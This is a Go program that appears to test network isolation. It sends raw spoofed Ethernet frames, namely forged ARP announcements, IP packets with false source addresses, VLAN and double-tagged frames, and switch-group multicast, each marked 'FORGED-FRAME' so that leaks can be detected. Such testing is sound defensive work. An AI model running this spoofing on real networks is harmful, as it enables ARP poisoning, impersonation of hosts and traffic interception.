package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"slices"
	"time"

	"golang.org/x/sys/unix"
)

// What frames hold, so that they are known wherever they come out.
const (
	forged = "FORGED-FRAME"   // may not leave the machine
	plain  = "PLAIN-DATAGRAM" // from the machine's own addresses
)

// An end is somebody on the job's network.
type end struct {
	ip  netip.Addr
	mac net.HardwareAddr
}

// ends are those of these addresses. On a job's network the hardware address
// follows from the IP address.
func ends(texts ...string) (out []end, err error) {
	self, err := ethernet()
	if err != nil {
		return nil, err
	}
	for _, text := range texts {
		ip, err := netip.ParseAddr(text)
		if err != nil {
			return nil, err
		}
		mac := slices.Clone(self.HardwareAddr)
		copy(mac[2:], ip.AsSlice())
		out = append(out, end{ip, mac})
	}
	return out, nil
}

// attack sends what a machine has no right to send. Each frame goes several times.
func attack(me, peer, victim, gateway string, underlay []string) error {
	all, err := ends(me, peer, victim, gateway)
	if err != nil {
		return err
	}
	self, other, to, host := all[0], all[1], all[2], all[3]
	if i, err := ethernet(); err != nil || i.HardwareAddr.String() != self.mac.String() {
		return fmt.Errorf("the machine's hardware address does not follow from %v: %v", self.ip, i.HardwareAddr)
	}
	everybody := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	nobody := netip.AddrFrom4([4]byte{self.ip.As4()[0], self.ip.As4()[1], 77, 77})
	mine := end{nobody, net.HardwareAddr{2, 1, 2, 3, 4, 5}}

	var frames [][]byte
	for _, target := range []net.HardwareAddr{to.mac, everybody, host.mac} {
		for _, as := range []end{other, host, to, mine, {other.ip, self.mac}, {self.ip, other.mac}, {host.ip, self.mac}, {nobody, self.mac}} {
			frames = append(frames, frame(target, as.mac, unix.ETH_P_IP, datagram(as.ip, to.ip)))
			for _, operation := range []uint16{1, 2} {
				frames = append(frames, frame(target, as.mac, unix.ETH_P_ARP, arp(operation, as, to)))
				// Who sends it and what it says are two things.
				frames = append(frames, frame(target, self.mac, unix.ETH_P_ARP, arp(operation, as, to)))
			}
		}
		for _, address := range underlay {
			u, err := netip.ParseAddr(address)
			if err != nil {
				return err
			}
			frames = append(frames, frame(target, self.mac, unix.ETH_P_IP, datagram(u, to.ip)))
			frames = append(frames, frame(target, self.mac, unix.ETH_P_ARP, arp(2, end{u, self.mac}, to)))
		}
		// In a tag of a VLAN, or two.
		tag := []byte{0, 5}
		inner := append(binary.BigEndian.AppendUint16(slices.Clone(tag), unix.ETH_P_IP), datagram(other.ip, to.ip)...)
		frames = append(frames, frame(target, self.mac, unix.ETH_P_8021Q, inner))
		inner = append(binary.BigEndian.AppendUint16(slices.Clone(tag), unix.ETH_P_8021Q), inner...)
		frames = append(frames, frame(target, self.mac, unix.ETH_P_8021AD, inner))
		// What is no IPv4.
		frames = append(frames, frame(target, self.mac, unix.ETH_P_IPV6, datagram6()))
		for _, kind := range []uint16{0x88cc, 0x88b5, 0x8863, 0x22f0} {
			frames = append(frames, frame(target, self.mac, kind, []byte(forged)))
		}
	}
	// To groups of switches, and to all that speak IPv6.
	for _, group := range []net.HardwareAddr{{1, 0x80, 0xc2, 0, 0, 0}, {1, 0x80, 0xc2, 0, 0, 0xe}, {0x33, 0x33, 0, 0, 0, 1}} {
		frames = append(frames, frame(group, self.mac, 0x0026, []byte("\x42\x42\x03"+forged)))
		frames = append(frames, frame(group, self.mac, unix.ETH_P_IPV6, datagram6()))
		frames = append(frames, frame(group, other.mac, unix.ETH_P_IP, datagram(other.ip, to.ip)))
	}
	socket, err := raw()
	if err != nil {
		return err
	}
	for range 3 {
		for _, f := range frames {
			if _, err := unix.Write(socket, f); err != nil {
				return fmt.Errorf("send %x: %w", f, err)
			}
		}
		time.Sleep(100 * time.Millisecond)
	}
	fmt.Printf("sent %d frames\n", 3*len(frames))
	return nil
}

func frame(to, from net.HardwareAddr, kind uint16, payload []byte) []byte {
	f := append(append(slices.Clone(to), from...), byte(kind>>8), byte(kind))
	f = append(f, payload...)
	for len(f) < 60 {
		f = append(f, 0)
	}
	return f
}

// arp says that an address is somebody's.
func arp(operation uint16, who, to end) []byte {
	p := []byte{0, 1, 8, 0, 6, 4, 0, byte(operation)}
	p = append(append(p, who.mac...), who.ip.AsSlice()...)
	p = append(append(p, to.mac...), to.ip.AsSlice()...)
	return append(p, forged...) // where Ethernet pads
}

// datagram is of UDP, to the port where answer listens.
func datagram(from, to netip.Addr) []byte {
	p := make([]byte, 28, 28+len(forged))
	p[0], p[8], p[9] = 0x45, 64, unix.IPPROTO_UDP
	binary.BigEndian.PutUint16(p[2:], uint16(28+len(forged)))
	copy(p[12:], from.AsSlice())
	copy(p[16:], to.AsSlice())
	var sum uint32
	for i := 0; i < 20; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(p[i:]))
	}
	binary.BigEndian.PutUint16(p[10:], ^uint16(sum+sum>>16))
	binary.BigEndian.PutUint16(p[20:], 40000)
	binary.BigEndian.PutUint16(p[22:], 7000)
	binary.BigEndian.PutUint16(p[24:], uint16(8+len(forged))) // without a checksum
	return append(p, forged...)
}

// datagram6 is one to all nodes of a link.
func datagram6() []byte {
	p := make([]byte, 48)
	p[0], p[6], p[7] = 0x60, unix.IPPROTO_UDP, 255
	binary.BigEndian.PutUint16(p[4:], uint16(8+len(forged)))
	copy(p[8:], netip.MustParseAddr("fe80::1").AsSlice())
	copy(p[24:], netip.MustParseAddr("ff02::1").AsSlice())
	binary.BigEndian.PutUint16(p[40:], 40000)
	binary.BigEndian.PutUint16(p[42:], 7000)
	binary.BigEndian.PutUint16(p[44:], uint16(8+len(forged)))
	return append(p, forged...)
}
